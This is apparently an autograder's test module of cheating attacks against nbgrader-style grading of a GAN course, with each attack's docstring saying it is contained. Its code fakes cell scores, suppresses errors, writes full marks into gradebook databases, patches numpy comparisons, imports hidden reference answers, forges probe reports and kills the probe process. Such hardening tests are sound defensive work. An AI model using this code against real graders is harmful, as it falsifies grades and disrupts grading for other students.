"""Class 6, judging: cheating the checks from inside the kernel (phase 1) or the probe (phase 2).

The kernel attacks are what gave an empty notebook full marks when the hidden tests ran after
the student's cells in one kernel: hooks that fake or hide a test cell's result, an AST
transformer, patched comparisons, a gradebook score written from inside, the history printed.
Since the checks are judged by the grader (``autograder/checks/``), none of these decides a
point; they must still earn none and show no check.

The probe attacks (kind ``"definitions"``) are the graded functions themselves, written to
cheat when the probe calls them: they read their callers' frames and source, forge the probe's
report, patch the probe, reach for the course's reference answers, or end the probe. Each is
appended to the answer cell that defines the function it replaces (the later definition wins).
"""

from __future__ import annotations

from autograder.attacks.core import Targets, attack

# ---------------------------------------------------------------- phase 1, in the kernel


@attack(6)
def fake_execute_results(t: Targets) -> str:
    """A ``pre_run_cell`` hook emits an ``execute_result`` of 100 in every later cell.

    nbgrader reads a test cell's first ``execute_result`` as its partial credit. Contained:
    the blank notebook scores 0 (no score comes from the notebook's outputs).
    """
    return t.fill(
        """
    ip = get_ipython()

    def emit(info):
        ip.displayhook(100)

    ip.events.register("pre_run_cell", emit)
    return "pre_run_cell hook registered"
    """
    )


@attack(6)
def silence_errors(t: Targets) -> str:
    """A ``post_run_cell`` hook clears every cell's error and tracebacks are no longer shown.

    Contained: the blank notebook scores 0.
    """
    return t.fill(
        """
    ip = get_ipython()

    def forget(result):
        result.error_in_exec = None
        result.error_before_exec = None

    ip.events.register("post_run_cell", forget)
    ip.showtraceback = lambda *args, **kwargs: None
    ip._showtraceback = lambda *args, **kwargs: None
    return "post_run_cell hook and silent tracebacks installed"
    """
    )


@attack(6)
def swallow_assertions(t: Targets) -> str:
    """An AST transformer wraps every later statement in ``try: ... except BaseException: pass``.

    Contained: the blank notebook scores 0.
    """
    return t.fill(
        """
    import ast

    class Swallow(ast.NodeTransformer):
        def visit_Module(self, node):
            handler = ast.ExceptHandler(type=ast.Name("BaseException", ast.Load()), name=None, body=[ast.Pass()])
            node.body = [ast.Try(body=[s], handlers=[handler], orelse=[], finalbody=[]) for s in node.body]
            return ast.fix_missing_locations(node)

    get_ipython().ast_transformers.append(Swallow())
    return "AST transformer installed"
    """
    )


@attack(6, depends=("grades",))
def write_manual_score(t: Targets) -> str:
    """Write ``manual_score`` and ``auto_score`` = full marks into every gradebook it can open.

    The worker's copy (``<tmp>/grade-*/gradebook.db``), the course gradebook, the run's
    template. Contained: the blank notebook scores 0 in ``grades.csv`` and in the course
    gradebook alike.
    """
    return t.fill(
        """
    import sqlite3
    written = []
    for path in _atk_expand(${host_tmp} + "/grade-*/gradebook.db", ${course_gradebook}, ${out_gradebook}, "/tmp/grade-*/gradebook.db", "gradebook.db", "../gradebook.db"):
        try:
            connection = sqlite3.connect(path, timeout=1)
            connection.execute("update grade set manual_score = 100, auto_score = 100")
            connection.commit()
            written.append(path)
            _atk_leak("gradebook written", path)
        except Exception:
            pass
    return f"gradebooks written: {written}"
    """
    )


@attack(6)
def patch_comparisons(t: Targets) -> str:
    """``np.isclose``, ``np.allclose`` and ``np.testing`` asserts always agree; ``float`` lies.

    The replacements read the calling line, as a cheat that passes only the checks it sees.
    Contained: the blank notebook scores 0.
    """
    return t.fill(
        """
    import numpy
    import linecache
    import sys as _sys

    def agree(*args, **kwargs):
        frame = _sys._getframe(1)
        linecache.getline(frame.f_code.co_filename, frame.f_lineno)
        return True

    numpy.isclose = agree
    numpy.allclose = agree
    numpy.array_equal = agree
    numpy.testing.assert_allclose = lambda *a, **k: None
    return "numpy comparisons patched"
    """
    )


@attack(6)
def print_history(t: Targets) -> str:
    """After every cell, print the whole input history (``In``) and the cell just run.

    When hidden tests ran in the kernel, the history held them. Contained: no line of a check
    in any page the run writes.
    """
    return t.fill(
        """
    ip = get_ipython()

    def dump(result):
        print("HISTORY", len(ip.user_ns.get("In", [])))
        print(*ip.user_ns.get("In", [])[-3:], sep="\\n")

    ip.events.register("post_run_cell", dump)
    return "history printer registered"
    """
    )


def _hidden_modules(t: Targets) -> list[str]:
    """The course package's modules that problem sets may not import (the reference answers)."""
    from gancourse.runtime import is_hidden

    names = sorted(path.stem for path in (t.repository / "gancourse").glob("*.py"))
    return [n for n in names if not n.startswith("__") and is_hidden(f"gancourse.{n}")]


@attack(6)
def unhide_reference(t: Targets) -> str:
    """Remove the import hook that hides the course's answers and import them by every route.

    Every module of ``gancourse`` that problem sets may not import (``train``, ``models``,
    ``losses``, ``steps``, ``evaluate``, ``weights``, ...) by import, and their files by path
    from every folder on ``sys.path`` and the repository. Contained: nothing found (the answers
    are not in the grading sandbox at all); the blank notebook scores 0.
    """
    return t.fill(
        """
    import importlib
    _atk_sys.meta_path[:] = [f for f in _atk_sys.meta_path if "Hide" not in type(f).__name__]
    found = []
    for name in ${hidden}:
        try:
            importlib.import_module("gancourse." + name)
            found.append(name)
            _atk_leak("reference module imported", name)
        except Exception:
            pass
    for folder in [*_atk_sys.path, ${repository}]:
        for name in ${hidden}:
            if _atk_read(_atk_os.path.join(folder, "gancourse", name + ".py")):
                found.append(name + ".py")
    return f"reference answers found: {found}"
    """,
        hidden=_hidden_modules(t),
    )


@attack(6, kind="notebook")
def delete_setup_cell(t: Targets, notebook) -> None:
    """Delete the locked setup cell (imports, the hook that hides the reference answers).

    nbgrader restores edited locked cells but does not re-add deleted ones. Contained: the
    blank notebook scores 0, the answered one full marks (the checks run the instructor's
    provided cells, not the student's).
    """
    notebook.cells = [
        c
        for c in notebook.cells
        if not (
            c.metadata.get("nbgrader", {}).get("locked")
            and not c.metadata.get("nbgrader", {}).get("grade")
            and not c.metadata.get("nbgrader", {}).get("solution")
        )
    ]


# ---------------------------------------------------------------- phase 2, in the probe


@attack(6, kind="definitions")
def read_callers(t: Targets) -> dict[str, str]:
    """The graded functions read their callers' frames, locals and source, and answer with
    any number they find there.

    Contained: 0 points (the probe holds inputs, not expected values) and no line of a check
    in any page.
    """
    return {
        "discriminator_loss": """
def discriminator_loss(real_logits, fake_logits):
    import inspect
    import linecache
    import sys
    import tensorflow as tf
    found = []
    frame = sys._getframe(1)
    while frame is not None:
        found.append(linecache.getline(frame.f_code.co_filename, frame.f_lineno))
        try:
            found.append(inspect.getsource(frame))
        except Exception:
            pass
        for value in frame.f_locals.values():
            if isinstance(value, float):
                return tf.constant(value)
        frame = frame.f_back
    raise RuntimeError("caller source: " + " | ".join(found)[:300])
""",
        "generator_loss": """
def generator_loss(fake_logits):
    import gc
    import tensorflow as tf
    for thing in gc.get_objects():
        if isinstance(thing, dict) and "expected" in thing:
            return tf.constant(float(thing["expected"]))
    raise RuntimeError("no expected value anywhere in the probe")
""",
    }


@attack(6, kind="definitions")
def forge_report(t: Targets) -> dict[str, str]:
    """The graded function writes the probe's report itself: a line of plausible results for
    every check, on every file descriptor, before the probe writes its own.

    Contained: 0 points (a check reported twice counts as not reported; a forged value must
    equal the judge's own reference to count).
    """
    return {
        "preprocess_images": """
def preprocess_images(images):
    import json
    import os
    import sys
    import numpy as np
    if "autograder.probes" not in sys.modules:  # in the notebook's kernel: nothing to forge
        raise NotImplementedError
    from autograder.probes import encode
    value = {"type": "ndarray", "value": np.zeros((2, 28, 28, 1), np.float32), "dtype": "float32"}
    forged = {"calls": [value, value, value], "bad": ["ValueError: no"] * 3}
    for probe in ("test_preprocess_images", "test_discriminator_loss", "test_generator_loss", "test_js_divergence"):
        line = json.dumps({"program": 0, "probe": probe, "observation": encode(forged)}) + "\\n"
        for fd in range(1, 64):
            try:
                os.write(fd, line.encode())
            except OSError:
                pass
    raise NotImplementedError
""",
    }


@attack(6, kind="definitions")
def patch_probe(t: Targets) -> dict[str, str]:
    """The graded function patches the probe: its encoder reports every value as correct-looking
    zeros, every later exception is swallowed, ``numpy`` comparisons always agree.

    Contained: 0 points.
    """
    return {
        "preprocess_images": """
def preprocess_images(images):
    import sys
    import numpy as np
    probes = sys.modules["autograder.probes"]
    original = probes.encode
    probes.encode = lambda value: original({"calls": [], "error": None})
    probes.attempt = lambda function, *a, **k: (0.0, None)
    np.isclose = np.allclose = lambda *a, **k: True
    return (np.asarray(images, np.float32) - 127.5) / 127.5
""",
    }


@attack(6, kind="definitions")
def reference_in_probe(t: Targets) -> dict[str, str]:
    """The graded functions import the course's own answers in the probe, by name and by path.

    Contained: 0 points (``gancourse.losses`` is not in the grading sandbox).
    """
    return {
        "discriminator_loss": """
def discriminator_loss(real_logits, fake_logits):
    import importlib
    import os
    import sys
    sys.meta_path[:] = [f for f in sys.meta_path if "Hide" not in type(f).__name__]
    try:
        return importlib.import_module("gancourse.losses").discriminator_loss(real_logits, fake_logits)
    except ImportError:
        pass
    for folder in sys.path:
        path = os.path.join(folder, "gancourse", "losses.py")
        if os.path.isfile(path):
            namespace = {}
            exec(open(path).read(), namespace)
            return namespace["discriminator_loss"](real_logits, fake_logits)
    raise RuntimeError("no reference answers in the probe")
""",
    }


@attack(6, kind="definitions")
def end_probe(t: Targets) -> dict[str, str]:
    """The graded function kills the probe and its parent in the sandbox.

    Contained: 0 points (checks that did not finish earn nothing), every other student graded.
    """
    return {
        "make_dataset": """
def make_dataset(images, batch_size, seed=None):
    import os
    import signal
    import sys
    if "autograder.probes" not in sys.modules:  # in the notebook's kernel: behave, be judged
        raise NotImplementedError
    for pid in (os.getppid(), 1, os.getpid()):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    os._exit(0)
""",
    }


@attack(6, kind="definitions")
def computed_defaults(t: Targets) -> dict[str, str]:
    """Code hidden where a definition runs it: a computed default value and a decorator.

    Contained: 0 points; the grader leaves such definitions out and says so.
    """
    return {
        "generator_loss": """
def generator_loss(fake_logits, _hook=__import__("builtins").setattr(__import__("builtins"), "float", lambda *a: 0.0)):
    raise NotImplementedError
""",
    }
